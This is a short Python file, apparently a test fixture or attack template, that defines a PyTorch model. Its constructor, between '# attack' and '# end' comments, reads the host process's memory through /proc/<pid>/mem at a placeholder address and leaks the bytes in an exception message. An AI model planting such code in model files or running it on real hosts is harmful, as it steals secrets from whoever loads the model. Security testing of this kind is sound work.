"""Reads the host's own memory through /proc."""

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        with open("/proc/@HOST_PID@/mem", "rb") as memory:
            memory.seek(int("@HOST_ADDRESS@"))
            raise ValueError(memory.read(64))
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
